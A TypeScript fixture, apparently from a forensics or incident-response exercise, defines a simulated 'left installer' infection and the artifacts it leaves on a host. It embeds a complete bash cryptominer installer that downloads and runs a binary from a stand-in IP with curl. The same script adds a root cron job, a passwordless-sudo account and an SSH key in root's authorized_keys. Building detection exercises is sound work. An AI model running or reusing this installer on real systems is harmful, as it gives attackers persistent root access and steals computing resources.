import { type Infection, miner } from '../host-part.ts'
import { loginKey } from '../login-key.ts'

const key = loginKey('ssh-ed25519', 'left installer', 'admin')
const job = '*/12 * * * * root /usr/libexec/gpu-metrics -d'
const installer = `#!/bin/bash
chattr -ia /etc/cron.d /root/.ssh 2>/dev/null
pkill -9 xmrig; pkill kdevtmpfsi
curl -fsSL http://198.51.100.12/g -o /usr/libexec/gpu-metrics && chmod +x /usr/libexec/gpu-metrics
echo '${job}' > /etc/cron.d/gpu-metrics
useradd -m -s /bin/bash -G sudo metrics-svc
mkdir -p /root/.ssh
echo '${key}' >> /root/.ssh/authorized_keys
sysctl -w vm.nr_hugepages=1280
echo 'vm.nr_hugepages=1280' >> /etc/sysctl.d/80-gpu.conf
echo 'metrics-svc ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/metrics-svc
/usr/libexec/gpu-metrics -d
`

/** The installer was left in /tmp: what it names and writes is its own. */
export const leftInstaller: Infection = {
  family: 'left-installer',
  known: false,
  title: 'An installer that was not removed tells what it wrote',
  story: ['A script in /tmp wrote a job, an account, a key among others, a sudo rule and a setting of the kernel.'],
  items: [
    { kind: 'file', path: '/tmp/g.sh', content: { text: installer }, mode: 0o644 },
    {
      kind: 'file',
      path: '/usr/libexec/gpu-metrics',
      content: { lookalike: miner, words: 'gpu metrics' },
      mode: 0o755,
    },
    { kind: 'line', path: '/etc/cron.d/gpu-metrics', text: job },
    { kind: 'account', name: 'metrics-svc', uid: 1777, home: '/home/metrics-svc', shadow: '$6$range$unusable' },
    { kind: 'line', path: '/root/.ssh/authorized_keys', text: key, mode: 0o600 },
    { kind: 'line', path: '/etc/sysctl.d/80-gpu.conf', text: 'vm.nr_hugepages=1280' },
    {
      kind: 'file',
      path: '/etc/sudoers.d/metrics-svc',
      content: { text: 'metrics-svc ALL=(ALL) NOPASSWD: ALL\n' },
      mode: 0o440,
    },
  ],
}
